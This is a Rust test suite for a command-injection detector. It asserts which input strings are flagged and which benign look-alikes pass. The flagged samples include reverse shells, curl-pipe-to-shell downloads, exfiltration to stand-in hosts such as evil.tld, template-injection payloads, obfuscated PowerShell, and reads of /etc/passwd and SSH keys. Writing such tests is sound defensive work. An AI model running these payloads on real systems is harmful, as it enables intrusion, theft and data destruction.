fn descriptor_duplication_is_no_character_reference() {
    // `&1;` is no HTML reference (a named one starts with a letter): the `;` ends the
    // command.
    for v in ["2>&1; id", "x 2>&1;whoami", "> /app/public/index.html"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["Tom &amp; Jerry; fun", "fish &#38; chips", "&1; is odd"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn separators_and_letters_normalisation_makes_ascii() {
    // NFKC's small forms, circled letters and one-letter Roman numerals
    for v in [
        "user\u{fe54}id",
        "\u{43f}\u{43e}\u{43b}\u{44c}\u{fe60}\u{fe60}id",
        "a\u{ff1b}\u{24d8}\u{24d3}",
        "\u{540d}\u{524d}\u{ff06}\u{ff06}\u{2170}d",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "\u{216b}\u{7ae0} \u{2170} \u{24d0} \u{fe60} \u{fe54} notes",
        "\u{300c}\u{3053}\u{3093}\u{300d}\u{ff02}\u{5f15}\u{7528}\u{ff02}",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_dot_glued_to_a_word_after_a_separator() {
    for v in [";.sh whoami", "x;.whoami"] {
        assert!(hit(v), "missed {v:?}");
    }
    // an everyday word behind the dot: a platform or a domain
    for v in ["c#;.net", "skills: c#;.net", "example;.com"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn quoted_phrase_then_search_operators() {
    // A search engine's phrase and exclusion (`"free shipping" -amazon`): the phrase is one
    // quoted word, and the option after it belongs to no command it names.
    for v in [
        "\"free shipping\" -amazon",
        "\"date night\" -movies -netflix",
        "'sort order' -asc",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in ["\"sh -c id\" x", "\"cat /etc/passwd\" x", "\"sleep 50\""] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn compound_bodies_after_loose_separators() {
    for v in [
        "; for i in 1; do id; done",
        "; if [ 1 ]; then whoami; else :; fi",
        "; select x in a; do id; break; done",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "do good; then rest",
        "if you can; then call me",
        "for you; do nothing",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn option_values_that_start_a_shell_or_a_dropped_program() {
    for v in [
        "-e 'sh -c id'",
        "-I /tmp/x",
        "--pre=/tmp/x",
        "-z /tmp/x -G 1 -w /dev/null",
        "-XX:OnOutOfMemoryError=/tmp/x",
        "(%pipe%id) (w) file",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "-o output.txt",
        "install it with -i /tmp/new-package.deb",
        "use -e for extended regex",
        "-XX:+UseG1GC",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn code_that_runs_a_command_by_other_names() {
    for v in [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{['id']|filter('system')}}",
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
        "%x(id)",
        "qx{id}",
        "os.execute('id')",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "array_map('trim', $a)",
        "a qx{wiki} page",
        "ex. %x(fmt)",
        "cursor.execute('SELECT 1')",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn pieces_of_random_strings_name_no_command() {
    for v in [",2s@:>6H=kK(zD;(iP&L", "_eJ4!RM|sU>90]s*", "63~:,&&/\"i/5"] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in ["x;Id", "x|ID", "8.8.8.8&&/tmp/x", "a;wHoAmI"] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn markdown_fences_are_not_substitutions() {
    for v in [
        "```python\nprint('hello')\n```",
        "Can you explain this?\n\n```java\nList<String> names = new ArrayList<>();\n```",
        "```\nplain text\n```",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // The lines inside are still judged, and backticks elsewhere still substitute.
    for v in ["```sh\nx; cat /etc/passwd\n```", "x```id```", "```id`"] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn powershell_names_picked_out_of_variables() {
    for v in [
        "; .($env:ComSpec[4,15,25]-join'') whoami",
        "; &($ShellId[1]+$ShellId[13]+'x') 'whoami'",
        "; &(gal ?e[?x]) 'whoami'",
        "; icm {whoami}",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["price: &($total[0]) due", "see ($list[1] + 2) items"] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn an_unclosed_contraction_stops_the_line() {
    // sh meets an unterminated quote and runs nothing of the line.
    for v in [
        "Hello; ls isn't my thing",
        "ok; cat doesn't work here",
        "Note: id isn't shown",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // Paired quotes, a comment hiding the application's quote, or a quote before the command.
    for v in [
        "x'; ls isn't",
        "O'Brien; cat /etc/passwd",
        "a; cat /etc/passwd #isn't",
        "; id; echo 'it's'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn programs_that_run_a_string() {
    for v in [
        "ext::sh -c touch% /tmp/pwned",
        "'ext::bash -c id'",
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
        "{{''.__class__.__mro__[1].__subclasses__()[396]('id',shell=True,stdout=-1)}}",
        "subprocess.Popen('cat /etc/passwd', shell = True)",
        "-c \"id\"",
        "sh -c 'uname -a'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "ext::",
        "the ext:: transport is disabled",
        "file.ext::$DATA",
        "\"Report\"?new()",
        "run('make it', shell=False)",
        "-c \"hello world\"",
        "-c 'red and blue'",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn windows_and_tool_specific_execution() {
    for v in [
        // PowerShell runs a parenthesised pipeline given to a cmdlet.
        "; Write-Output (whoami)",
        "; Out-File -InputObject (Get-Process) x",
        // cmd reads `,` and `=` as blanks around its switches.
        "cmd,/c,whoami",
        "& cmd.exe=/c=dir",
        // Windows timing probes.
        "x; waitfor /t 5 pause",
        "& choice /t 5 /d y",
        // Perl's piped two-argument open, make's shell function.
        "open(F,\"id|\")",
        "open(my $f, \"| cat /etc/passwd\")",
        "$(shell id)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Test-ordering plugin for pytest3 (Python 3)",
        "Write-Output (1+2)",
        "see cmd,/c for help",
        "choice of 5 /t shirts",
        "WAITFOR DELAY '0:0:5'",
        "open(F, \"data.txt\")",
        "reopen(F,\"id|\")",
        "$(shell)",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn prose_and_between_words() {
    for v in ["uname & password", "Bash & Co. Bakery", "whoami & Friends"] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "whoami & id",
        "ifconfig & ping -c 1 x",
        "whoami & ",
        "uname &",
        "whoami&password",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn a_command_named_in_another_language() {
    for v in [
        "十六进制转储（或复原）工具\nxxd 能创建指定文件或标准输入的十六进制转储，也",
        "Dokumentation\nELinks ist ein mächtiges Programm zum Surfen im Textmodus.",
        "x\nBusyBox kombinuje malé verze spousty běžných nástrojů",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    for v in [
        "x\nwhoami",
        "; cat /etc/passwd é ü",
        "a\nxxd -p /etc/shadow",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn statements_without_a_command_word_and_powershell_objects() {
    for v in [
        "; >/tmp/pwned",
        "|>>/var/www/html/x.php",
        ". /tmp/x.sh",
        "-ok id ;",
        "New-Object Net.Sockets.TCPClient(\"10.0.0.1\",4444)",
        "$c = New-Object -ComObject WScript.Shell",
        "; new-object system.net.webclient",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        ". /etc/profile",
        "see > /tmp",
        "a > b; c",
        "New-Object System.Collections.Generic.List[string] in C#",
        "okay -ok",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn a_wrapper_said_twice_is_prose() {
    assert!(!hit("sh sh baby"));
    assert!(!hit("time time again"));
    assert!(hit("sudo sh -c id"));
    assert!(hit("; nohup nohup id"));
}

/// The vectorised class pass of [`ByteSet::of`] sees every byte a table look-up sees, at
/// every position of a block and in the tail.
#[test]
fn byte_set_pass_agrees_with_table_lookups() {
    let mut buf = [b'a'; 96];
    for x in 0..=255u8 {
        for at in [0, 1, 15, 16, 17, 31, 32, 33, 47, 48, 63, 64, 95] {
            for len in [at + 1, 32, 33, 47, 48, 49, 64, 95, 96] {
                if len <= at || len > buf.len() {
                    continue;
                }
                buf[at] = x;
                let b = &buf[..len];
                let table = ByteSet::of_scalar(b).0;
                assert_eq!(ByteSet::of(b).0, table, "{x} at {at} of {len}");
                #[cfg(target_arch = "x86_64")]
                if crate::nibble::wide::available() {
                    // SAFETY: `available` checked that this CPU has AVX2.
                    let wide = unsafe { crate::nibble::wide::classes(&BYTE_CLASS_NIBBLES, b) };
                    assert_eq!(wide, (len >= 32).then_some(table), "{x} at {at} of {len}");
                }
                buf[at] = b'a';
            }
        }
    }
}

/// [`in_etc`]'s backward byte pass answers as the `str` split it replaced.
#[test]
fn in_etc_agrees_with_the_segment_split() {
    let split = |w: &str| {
        let mut parts = w.rsplit('/').filter(|p| !p.is_empty() && *p != ".");
        let file = parts.next();
        file.is_some_and(|f| !is_glob(f.as_bytes())) && parts.next() == Some("etc")
    };
    let parts = [
        "", "/", "//", ".", "..", "etc", "Etc", "passwd", "p?ss*", "x.y", "étc",
    ];
    for a in parts {
        for b in parts {
            for c in parts {
                for w in [
                    format!("{a}{b}{c}"),
                    format!("{a}/{b}"),
                    format!("{a}/{b}/{c}"),
                    format!("/{a}/{b}/{c}/"),
                ] {
                    assert_eq!(in_etc(&w), split(&w), "{w:?}");
                }
            }
        }
    }
}

/// Round 19: constructs a shell or an interactive program runs without a known command
/// name, with the look-alikes each must leave alone.
#[test]
fn unknown_programs_escapes_coders_and_redirections() {
    for v in [
        // An unknown program after a separator opening the value, or glued to `${IFS}`.
        ";w${IFS}",
        "&& history",
        "; read -t 10",
        "& dropbear -p 2222",
        "& conhost calc.exe",
        "|| mytool --now",
        "main.go; go run /tmp/x.go",
        // Pager, editor and ex escapes.
        "!id",
        ":!id",
        ":!/bin/bash",
        ":!ls -la",
        ":set shell=/bin/sh|:shell",
        // ImageMagick coders that run a script or read a file.
        "msl:/tmp/evil.msl",
        "mvg:/tmp/x.mvg",
        "ephemeral:/tmp/x.svg",
        "text:/etc/passwd",
        "label:@/etc/passwd",
        // A bare redirection into a file the system runs.
        "> /etc/cron.d/x",
        "1 > /etc/cron.d/x",
        ">> /root/.ssh/authorized_keys",
        // PowerShell's file writers after a separator, given a path.
        "| Out-File C:\\inetpub\\wwwroot\\x.aspx",
        "; Set-Content -Path /var/www/x.php",
        // PowerShell's call operator on a name glued from pieces.
        "; $x='who'+'ami'; & $x",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "a; b; c",
        "R&D; sales",
        "Tom & Jerry",
        "fish; chips",
        "&nbsp;",
        "&q=1",
        "| name | type |",
        "; this is a comment",
        "; end",
        ";performance",
        "& others",
        "!important",
        "!ping",
        "!help me",
        ":smile:",
        ":set number",
        "text: hello",
        "label:@user",
        "msl is a language",
        "> /etc/hosts is where names live",
        "> quoted text",
        "x > 5",
        "$x = 'a' + 'b'",
        "Out-File C:\\x.txt",
        "Home | Out-File",
        "| out-file report",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A command line followed by prose, or shown in a code span inside a question, is what
/// people type into a search or help-desk box.
#[test]
fn commands_quoted_in_prose() {
    for v in [
        "ls -la output below",
        "docker compose up -d not working",
        "powershell Get-ChildItem recursion question",
        "git commit -m \"fix typo\"",
        "git commit -m \"fix: handle <null> values\"",
        "why does `cat file | grep x` hang?",
        "Use `$(pwd)` in your script",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "cat /etc/passwd",
        "nc -e /bin/sh 10.0.0.1 4444",
        "ping -c 10 localhost",
        "sh -c \"cat /etc/passwd\"",
        "git commit -m \"$(id)\"",
        "x `cat /etc/passwd | nc evil.tld 80`",
        "a`id`b",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// The `;`-separated fields of a product token's comment (User-Agent, Server, Via) are
/// platform, language and device tokens; a shell reads `Name/1.0 (` as a syntax error.
#[test]
fn user_agent_comment_fields() {
    for v in [
        "Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) Presto/2.5.25 Version/10.54",
        "Opera/9.80 (Android; Opera Mini/7.5.33361/31.1448; U; id) Presto/2.8.119 Version/11.1010",
        "Mozilla/5.0 (Linux; U; Android 4.0.3; tr; LG-L160L Build/IML74K) AppleWebKit/534.30",
        "Mozilla/5.0 (Linux; U; Android 2.3.6; nl; GT-S5830) AppleWebKit/533.1",
        "Mozilla/5.0 (Linux; U; Android 4.4.2; vi; SM-G7102) AppleWebKit/534.30",
        "Mozilla/5.0 (X11; U; Linux i686; ru; rv:1.9.2.3) Gecko/20100401",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; ps; rv:1.9.0.1) Gecko/2008070208",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
        "Dalvik/2.1.0 (Linux; U; Android 9; id; Redmi Note 8 MIUI/V11.0.3.0)",
        "See the docs (use `ls`) for more",
        "Why does `ls` show nothing?",
        "Opera/9.80 (Series 60; Opera Mini/7.1.32444/191.283; U; su) Presto/2.8.119",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/5.1.21214/28.2725; U; ln) Presto/2.8.119",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "Mozilla/5.0 (X11; Linux) ; id",
        "Mozilla/5.0 (X11; Linux x86_64); id",
        "() { :; }; /bin/bash -c id",
        "Mozilla/5.0 (X11; Linux x86_64) $(id)",
        "Mozilla/5.0 (X11; $(id); Linux)",
        "Mozilla/5.0 (X11;`id`) Gecko",
        "Mozilla/5.0 (X11; `id`) Gecko",
        "Mozilla/5.0 (X11; Linux; `whoami`)",
        "Mozilla/5.0 (X11; Linux; whoami)",
        "Mozilla/5.0 (X11; Linux; sleep 5)",
        "Mozilla/5.0 (X11; Linux; ping -c 3 x.burp)",
        "Mozilla/5.0 (X11; Linux | id)",
        "Mozilla/5.0 (X11; id | nc evil.tld 80)",
        "Opera/9.80 (J2ME; U; id",
        "Opera 9.80 (J2ME/MIDP; U; id)",
        "x (a; id)",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// An unset braced variable at the start of a command word after a separator expands to
/// nothing (`;${x}id`); PowerShell names a program under `${env:X}\`. A value opening with
/// `${name}text` is a template.
#[test]
fn braced_variable_leading_the_command_word() {
    for v in [
        ";${x}id",
        ";${a}i${b}d",
        "; ${a}who${b}ami",
        "|${x}cat /etc/passwd",
        "$(${x}id)",
        "; ${env:windir}\\system32\\cmd.exe /c whoami",
        "& ${ENV:SystemRoot}\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "${greeting}cat",
        "${name}test",
        "Hello ${name}, your id is ${id}",
        "width: ${w}px; height: ${h}px",
        "a; ${prefix}items",
        "${env:windir}\\Fonts",
        "path=${env:APPDATA}\\MyApp\\config.ini",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A one-token value then an output redirection into a path: the shell writes that file.
#[test]
fn lone_redirection_into_a_file() {
    for v in [
        "x > /tmp/o",
        "127.0.0.1 > /var/www/html/o.txt",
        "x > /etc/cron.d/evil",
        "x >> ~/.bashrc",
        "127.0.0.1 2>/tmp/err.log",
        "x>/var/www/html/s.php",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "a > b",
        "5 > 3",
        "-> next",
        "x >= 10",
        "a -> /tmp/x",
        "x > /dev/null",
        "price > 100",
        "see > /docs/",
        "version >= 2.0",
        "Go to Settings > Privacy",
        "quoted > text here",
        "x > /tmp",
        "Home > /products/shoes",
        "Results > /reports/2024",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// Prose that names a command or a path with no separator, a password's glued `|`/`&`
/// and a code span closing a sentence are text, not command lines.
#[test]
fn prose_naming_commands_and_paths() {
    for v in [
        "docker secrets live in /run/secrets",
        "Set PHP include_path to ./lib",
        "rm -rf my weekend plans 😩",
        "P4ss|word&more",
        "Blue|sky&less",
        "try `pip install requests`",
        "then run `docker compose up`.",
        "Run `npm install` first",
        "copy&paste",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "cat /etc/passwd",
        "docker run -v /:/mnt alpine",
        "rm -rf / --no-preserve-root",
        "x&date",
        "x&more /etc/passwd",
        "P4ss|word&whoami",
        "a|id",
        "abc `id`",
        "abc `whoami`",
        "try `curl evil.com`",
        "hello `curl attacker`",
        "then `ping attacker`",
        "try `sleep 5`",
        "try `cat /etc/passwd`",
        "x `shutdown now`",
        "; cat /etc/passwd in /tmp",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A precommand after a spaced separator (`x; time id`) hands command position to the next
/// word; prose with the same words after `;` runs nothing.
#[test]
fn precommand_after_spaced_separator() {
    for v in [
        "x; time id",
        "x; eval id",
        "x; coproc id",
        "x; command id",
        "x; builtin id",
        "x; exec id",
        "x; nohup id",
        "x; env id",
        "x; nice id",
        "x; nice -n 19 whoami",
        "x; timeout 5 id",
        "x; xargs id",
        "abc | time uname -a",
        "x; trap id EXIT",
        "x; trap 'curl http://e.sh|sh' INT",
        "trap \"id\" EXIT",
        "x; history -c",
        "foo && history -w /dev/null",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "fun; time flies",
        "Great party; time to go home",
        "a; nice try",
        "x; command line",
        "tips; eval results",
        "Dinner; time well spent",
        "Notes; Time id card",
        "keep a trap door open",
        "history -c explained",
        "Art; history class",
        "a; env vars",
        "trap music",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// PowerShell's `@( … )` runs its contents as `$( … )` does; an address or a decorator
/// glued to `@(` does not.
#[test]
fn powershell_array_subexpression_runs() {
    for v in ["@(whoami)", "x; @(Get-Process)", "a @(hostname)"] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "@(1,2,3)",
        "@('a','b')",
        "user@(example).com",
        "reach me @(home)",
        "$arr = @()",
    ] {
        assert!(!hit(v), "{v}");
    }
}

/// A command line asked about in a search or a ticket: a question word or a `vs`
/// comparison after it; a command that reads a system file or runs a shell keeps its weight.
#[test]
fn command_line_in_a_question() {
    for v in [
        "ssh -i key.pem ubuntu@host failing",
        "find . -name '*.log' help",
        "cmd /c vs cmd /k",
        "powershell get-process examples",
        "curl -O versus wget -O",
        "tar -xzf archive.tar.gz syntax",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "cat /etc/passwd",
        "nc -e /bin/sh 1.2.3.4 4444",
        "nc -e /bin/sh 1.2.3.4 4444 help",
        "curl http://x/s.sh | sh",
        "rm -rf /",
        "find . -name '*.log' -exec rm {} ; help",
        "ping -c 10 127.0.0.1",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A setting or a snippet that runs nothing: an interpreter's path alone, a git command
/// line with no shell syntax, a placeholder in a substitution shown in a sentence.
#[test]
fn settings_and_snippets_that_run_nothing() {
    for v in [
        "/usr/local/bin/python3",
        "/usr/bin/python3.11",
        "/usr/bin/node",
        "git checkout -- ../file.txt",
        "git clone https://github.com/user/repo.git",
        "Difference between $(cmd) and backticks",
        "use $(command) instead of backticks",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "/bin/sh",
        "/usr/bin/python3 -c 'import os;os.system(\"id\")'",
        "x; /usr/bin/python3 /tmp/x.py",
        "git clone https://x/r.git; id",
        "git -c core.sshCommand='touch /tmp/pwn' fetch",
        "x $(cmd)",
        "$(cmd)",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A whole value that only changes the directory, and help text naming a cmd variable.
#[test]
fn directory_change_and_variable_in_help_text() {
    for v in [
        "cd ~/projects",
        "cd /var/www/html",
        "Set %APPDATA% in settings",
        "Open %USERPROFILE% in explorer",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "cd /tmp && wget http://x/a.sh",
        "cd .. && ls",
        "cd /tmp; ./x",
        "& set %COMSPEC% /c whoami",
        "type %WINDIR%\\win.ini",
    ] {
        assert!(hit(v), "{v}");
    }
}

/// A short command glued to the separator that ends the value runs in command position.
#[test]
fn short_command_ending_in_a_separator() {
    for v in ["id&", "id;", "id|", "ps&"] {
        assert!(hit(v), "{v}");
    }
    for v in ["ID&", "Id;", "id&lang=en", "id", "ok;", "more&"] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn command_options_in_short_attached_and_next_word_forms() {
    for v in [
        "-e sh\\ -c\\ id",
        "-I\"sh -c id\"",
        "-u./payload",
        "-u /tmp/x",
        "--interactive --exec 'id'",
        "-x 'id'",
        "--exec \"sh -c id\"",
        "-rf /",
        "--preserve-root=false -rf /",
        "--no-preserve-root -rf /*",
        "-Rf ~",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "-e utf-8",
        "use -e to enable",
        "-I include/",
        "-I /usr/include",
        "-u admin",
        "-u username",
        "-o output.txt",
        "--exec-path",
        "--exec \"CMD\"",
        "-e ssh",
        "-e 'ssh -p 2222'",
        "-u ./README.md",
        "-rf in a sentence",
        "-rf ./build",
        "-rf node_modules",
        "never run -rf / anywhere",
        "-r /",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn editor_and_pager_escapes_after_a_prefix_or_keystroke() {
    for v in [
        "-c ':!id'",
        "+':!id'",
        "'+!sh'",
        "+!sh",
        "-c \":!/bin/sh\"",
        "v\n:!sh",
        "v\n!id",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "-c ':wq'",
        "+10",
        "+'/pattern'",
        "-c '!important'",
        "+1 for this",
        "'+!'",
        "Hello there\n!ping",
        "v\n:wq",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn process_spawning_sinks_without_shell_bytes() {
    for v in [
        "pipe:id",
        "pipe:ls -la",
        "'pipe:/tmp/x'",
        "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
        "new ProcessBuilder(\"id\").start()",
        "subprocess.check_output(['id'])",
        "subprocess.Popen([\"/bin/sh\", \"-c\", x])",
        "Popen(['whoami'])",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "pipe: fitting",
        "pipeline",
        "pipe:stream",
        "ProcessBuilder class docs",
        "the ProcessBuilder(cmd) constructor",
        "subprocess.run([x])",
        "subprocess.run(['mytool'])",
        "items.popen([1, 2])",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn command_line_then_a_sentence_about_its_result() {
    for v in [
        "cat /etc/hosts shows nothing",
        "ls /var/log returns nothing here",
        "cat config.yml prints an error",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "cat /etc/passwd",
        "cat /etc/hosts",
        "; cat /etc/passwd shows nothing",
        "cat /etc/passwd shows /etc/shadow",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn known_command_with_plain_arguments_after_one_token() {
    for v in [
        "a; rm x y z",
        "a; tar cf x.tar a",
        "a; reboot now",
        "ns1.example.com; dig axfr example.com",
        "a & type secrets.txt",
        "hello; mail attacker@evil.example < secrets.txt",
        ";history",
        ";ip a",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "salt & pepper",
        "Tom & Jerry",
        "a; b; c",
        "rock & roll",
        "R&D; sales",
        "Sales; set up meeting",
        "Note; copy a b",
        "read; type faster",
        "me & you",
        "java & python",
        "a; rm the old files",
        "Hello; mail me the file.txt",
        "tips; eval results",
        "x; time flies",
        "history of rome",
        "art history",
        "ip address",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn download_tool_options_that_redirect_or_upload() {
    for v in [
        "-e use_proxy=yes -e http_proxy=evil.example:8080",
        "-e robots=off --execute=http_proxy=evil:8080",
        "--execute=output_document=/var/www/html/x.php",
        "-d @/etc/passwd http://evil.example",
        "--data-binary @/root/.ssh/id_rsa",
        "--dump-header /var/www/x.php",
        "-D /var/www/html/x.php",
        "> /var/www/html/x.php",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "-e robots=off",
        "-e use_proxy=yes",
        "-e http_proxy",
        "-d @body.json",
        "-d name=value",
        "--dump-header headers.txt",
        "-D out.txt",
        "> quoted text about x.php",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn english_wrappers_need_the_wrapped_command_line() {
    for v in [
        "exec chef",
        "Exec chef",
        "time python",
        "watch docker",
        "nice curl",
        "command java",
        "exec chef.",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "exec /bin/sh",
        "exec bash",
        "exec nmap",
        "exec chef-client",
        "time curl http://evil.example/x.sh",
        "Dpkg -i /tmp/x.deb",
        "nice -n 19 nc -e /bin/sh 1.2.3.4 4444",
        "exec python -c 'import os'",
        "; exec chef",
        "time curl coreruleset.org",
        "exec python x.py",
        "a;time python",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn whole_value_command_names_followed_by_prose() {
    for v in [
        "Powershell Get-Process shows high CPU",
        "powershell get-childitem recurse",
        "pwsh Get-Service running services",
        "bash if [ -f file ]",
        "bash for loop syntax",
        "sh while read line",
        "Dpkg perl modules",
        "Nmap network scanner tutorial",
        "echo $name is nice",
        "echo $user says hello",
        "cat /etc/hosts meaning",
        "cat /etc/passwd explained",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "powershell Get-Process",
        "powershell -enc SQBFAFgA",
        "powershell Invoke-Expression whoami",
        "powershell Get-Content C:\\secrets.txt",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://x')",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        "bash -c 'if id; then :; fi'",
        "dpkg -l",
        "Nmap -sV 10.0.0.1",
        "echo $(id)",
        "echo $name > /var/www/shell.php",
        "echo $name is nice; id",
        "cat /etc/passwd",
        "cat /etc/passwd /etc/shadow",
        "rm -rf /",
        "rm -rf ~",
    ] {
        assert!(hit(v), "{v}");
    }
}

#[test]
fn vi_shell_ex_command_alone() {
    for v in [":shell", ":sh", ":shell\n", " :sh", ":terminal"] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        ":shell:",
        ":sh:",
        ":Shell",
        ":shells",
        "10:sh",
        ":shell script tips",
        ":term",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn harmless_whole_developer_commands() {
    // Run whole, these read no system file, open no shell or connection and delete nothing.
    for v in [
        "docker run -it ubuntu",
        "docker run -p 8080:80 nginx",
        "kubectl get pods -n default",
        "ssh-keygen -t ed25519",
        "python3 script.py --verbose",
        "pip install -r requirements.txt",
        "java -jar app.jar",
        "tar -xzf file.tar.gz",
        "grep -r foo .",
        "grep -r \"foo\" .",
        "ping google.com",
        "ls -la",
        "echo $HOME",
        "echo $SHELL",
        "ls",
        "pwd",
        "id",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "cat /etc/passwd",
        "rm -rf /",
        "rm -rf ~",
        "rm -rf .",
        "rm -rf *",
        // a backslash skips the shell's aliases
        "\\ls",
        "\\pwd",
        "ping -c 10 127.0.0.1",
        "ping -c 5 attacker.com",
        "nc -e /bin/sh 1.2.3.4 4444",
        "curl http://x/s.sh | sh",
        "wget http://x/a -O /tmp/a",
        "echo $(id)",
        "echo `id`",
        "echo ${PATH:0:1}",
        "tar --checkpoint-action=exec=sh",
        "python3 -c 'import os'",
        "perl -e 'system(1)'",
        "docker exec -it web sh",
        "grep -r foo ../../etc",
        "whoami",
        "uname -a",
        "ifconfig",
        "systeminfo",
        "id;",
        "net user",
        "ls -la /",
        "find . -exec sh {} +",
        "c99 -wrapper sh,-c,curl google.com .",
        "ansible-pull --url example.com",
        "ping 127",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

#[test]
fn sentence_after_command_name() {
    for v in [
        "Timeout after 30s on /api/v1/orders?status=pending",
        "Sort /home/user/docs by date",
        "ssh-keygen saves to ~/.ssh/id_rsa by default",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    for v in [
        "timeout /t 30",
        "Sort /R c:\\x.txt",
        "More /etc/passwd",
        "Type C:\\secret.txt",
        "cat /etc/passwd",
        "ssh-keygen -f ~/.ssh/id_rsa",
    ] {
        assert!(hit(v), "{v:?}");
    }
}

#[test]
fn no_op_commands_and_char_code_calls() {
    for v in [
        // A name built from character codes and run by the call operator.
        "; [char[]](105,101,120)-join''|%{&$_ 'whoami'}",
        "&([char]105+[char]101+[char]120) 'whoami'",
        // `sleep` with its duration still probes timing; `true` after data is a separator.
        "x;sleep 5;",
        "a|true",
        "--pre=sh",
        ";${0}<<<id",
        "; $SHELL <<< 'id'",
        "x;\"$0\"<<<$(curl x)",
        "ls -la /etc/?asswd",
        "cat /etc/passw?",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "staple;correct;sleep;orange62",
        "true || false",
        "false && true",
        "[char]65 is the letter A",
        "[char[]](72,105) -join ''",
        "--shell=zsh",
        "--lang=sh",
        "Hmm... `sleep 10` seems too long for a test?",
        "price is ${0} <<< cheap",
        "ls -la? sorry, typo",
    ] {
        assert!(!hit(v), "{v}");
    }
}

